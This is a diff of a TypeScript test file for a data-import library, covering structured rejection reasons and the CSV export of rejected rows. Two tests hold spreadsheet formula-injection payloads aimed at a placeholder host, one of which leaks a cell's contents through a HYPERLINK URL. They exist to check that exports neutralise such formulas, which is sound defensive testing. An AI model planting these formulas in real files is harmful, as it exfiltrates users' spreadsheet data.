@@ -1,4 +1,5 @@
-import { importFile, ImportFormatError, importText, rejectedRowsCsv, type ImportProgress } from '@/lib/import';
+import { importFile, ImportFormatError, importText, rejectedRowsCsv, rowReason, type ImportProgress } from '@/lib/import';
+import { problem } from '@/lib/import/reasons';
 import { nearest } from '@/lib/import/rows';
 import { MAX_RECORD_CHARS, RECORD_TOO_LONG } from '@/lib/import/text-chunks';
 import { ENGAGEMENT_TYPES } from '@/lib/model/engagement';
@@ -120,7 +121,7 @@ describe('files that are not imports', () => {
   it('refuses an empty file and a header it does not know', async () => {
     await expect(importText('', 'empty.csv')).rejects.toThrow(ImportFormatError);
     await expect(importText('\uFEFF\n\n', 'blank.csv')).rejects.toThrow(ImportFormatError);
-    await expect(importText('foo,bar\n1,2\n', 'other.csv')).rejects.toThrow(/matches no format/);
+    await expect(importText('foo,bar\n1,2\n', 'other.csv')).rejects.toMatchObject({ problems: [problem('importFormat_unknown')] });
     expect(await countEvents()).toBe(0);
   });
 
@@ -133,28 +134,32 @@ describe('rejectedRowsCsv', () => {
   it("writes the file's own columns, then every problem of the row and its line, quoting what needs it", () => {
     const text = rejectedRowsCsv({
       rejectedRows: [
-        { line: 7, reason: "occurred_at 'yesterday' is not a date", values: { email: 'a@x.example', occurred_at: 'yesterday' } },
-        { line: 9, reason: "event_type 'foo' is not an event type; lead_score 'x' is not a number", values: { email: 'b@x.example', occurred_at: '2026-11-01, 9:00' } },
-        { line: 11, reason: 'unterminated quote' },
+        { line: 7, problems: [problem('importReason_notDate', 'occurred_at', 'yesterday')], values: { email: 'a@x.example', occurred_at: 'yesterday' } },
+        {
+          line: 9,
+          problems: [problem('importReason_eventType', 'foo'), problem('importReason_notNumber', 'lead_score', 'x')],
+          values: { email: 'b@x.example', occurred_at: '2026-11-01, 9:00' },
+        },
+        { line: 11, problems: [problem('importReason_unclosedQuote')] },
       ],
     });
     expect(text).toBe(
       'email,occurred_at,reason,line\r\n' +
         "a@x.example,yesterday,occurred_at 'yesterday' is not a date,7\r\n" +
-        "b@x.example,\"2026-11-01, 9:00\",event_type 'foo' is not an event type; lead_score 'x' is not a number,9\r\n" +
-        ',,unterminated quote,11\r\n',
+        "b@x.example,\"2026-11-01, 9:00\",event_type 'foo' is not an event type (the README lists them); lead_score 'x' is not a number,9\r\n" +
+        ',,a quoted value is never closed,11\r\n',
     );
   });
 
   it('neutralises spreadsheet formulas in a reason, as the exports do', () => {
-    const text = rejectedRowsCsv({ rejectedRows: [{ line: 3, reason: '=HYPERLINK("https://evil.example","click") is not a single value' }] });
+    const text = rejectedRowsCsv({ rejectedRows: [{ line: 3, problems: [problem('importReason_notSingleValue', '=HYPERLINK("https://evil.example","click")')] }] });
     expect(text).toBe('reason,line\r\n"\'=HYPERLINK(""https://evil.example"",""click"") is not a single value",3\r\n');
   });
 
   it('neutralises a formula that came from the imported file itself (a JSON key quoted in the reason, and as a column)', async () => {
     const key = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
     const summary = await importText(JSON.stringify([{ email: 'a@x.example', [key]: { x: 1 } }]), 'hostile.json');
-    expect(summary.rejectedRows).toEqual([{ line: 1, reason: `${key} is not a single value`, values: { email: 'a@x.example', [key]: '{"x":1}' } }]);
+    expect(summary.rejectedRows).toEqual([{ line: 1, problems: [problem('importReason_notSingleValue', key)], values: { email: 'a@x.example', [key]: '{"x":1}' } }]);
     const lines = rejectedRowsCsv(summary).split('\r\n');
     expect(lines[0]).toMatch(/^email,"'=HYPERLINK/);
     expect(lines[1]).toMatch(/^a@x\.example,"\{""x"":1\}","'=HYPERLINK/);
@@ -174,7 +179,7 @@ describe('every problem of a row, and what a mistyped event type meant', () => {
   it('names every problem of the row, in column order, not only the first', async () => {
     const file = ['email,lead_score,event_type,occurred_at', 'not-an-email,seventy,emial_open,yesterday'].join('\n');
     const summary = await importText(file, 'bad.csv');
-    expect(summary.rejectedRows[0]!.reason).toBe(
+    expect(rowReason(summary.rejectedRows[0]!)).toBe(
       "email 'not-an-email' is not an email address; lead_score 'seventy' is not a number; " +
         "event_type 'emial_open' is not an event type; did you mean 'email_open'?; occurred_at 'yesterday' is not a date",
     );
@@ -194,11 +199,11 @@ describe('every problem of a row, and what a mistyped event type meant', () => {
 
   it('HubSpot and Mautic rows name every problem too', async () => {
     const hubspot = ['Record ID,First Name,Email,HubSpot Score,Last Marketing Email Open Date', '1,Ana,ana@x.example,high,someday'].join('\n');
-    expect((await importText(hubspot, 'hubspot.csv')).rejectedRows[0]!.reason).toBe(
+    expect(rowReason((await importText(hubspot, 'hubspot.csv')).rejectedRows[0]!)).toBe(
       "HubSpot Score 'high' is not a number; Last Marketing Email Open Date 'someday' is not a date",
     );
     const mautic = ['id,firstname,lastname,email,points,last_active,date_identified', '2,Bo,Li,bad,many,never,2026-01-01'].join('\n');
-    expect((await importText(mautic, 'mautic.csv')).rejectedRows[0]!.reason).toBe(
+    expect(rowReason((await importText(mautic, 'mautic.csv')).rejectedRows[0]!)).toBe(
       "email 'bad' is not an email address; points 'many' is not a number; last_active 'never' is not a date",
     );
   });
@@ -213,7 +218,7 @@ describe('the record size limit', () => {
       ['big.json', `[${small(1)},\n${long},\n${small(2)}]`],
     ] as const) {
       const summary = await importText(text, name);
-      expect(summary).toMatchObject({ recordsRead: 3, rejected: 1, rejectedRows: [{ line: 2, reason: RECORD_TOO_LONG }] });
+      expect(summary).toMatchObject({ recordsRead: 3, rejected: 1, rejectedRows: [{ line: 2, problems: [RECORD_TOO_LONG] }] });
       expect(summary.imported + summary.skipped).toBe(2);
     }
     expect(await countEvents()).toBe(2);
